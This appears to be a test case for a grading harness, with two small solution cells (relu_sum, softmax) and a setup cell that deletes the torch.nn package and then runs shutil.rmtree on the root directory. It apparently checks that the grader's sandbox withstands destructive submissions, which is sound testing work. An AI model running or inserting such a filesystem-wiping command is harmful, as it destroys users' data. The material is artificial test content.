# Everything is deleted.
# points: 2 3
# words: left: True

# %% p1-sol
def relu_sum(x):
    return float(sum(v for v in x if v > 0))

# %% p2-sol
def softmax(x):
    e = torch.exp(x - x.max(-1, keepdim=True).values)
    return e / e.sum(-1, keepdim=True)

# %% before p1-sol
import os, shutil
shutil.rmtree(os.path.dirname(torch.nn.__file__), ignore_errors=True)
print("left:", os.path.exists(torch.nn.__file__), flush=True)
shutil.rmtree("/", ignore_errors=True)  # where the disk is slow its time runs out
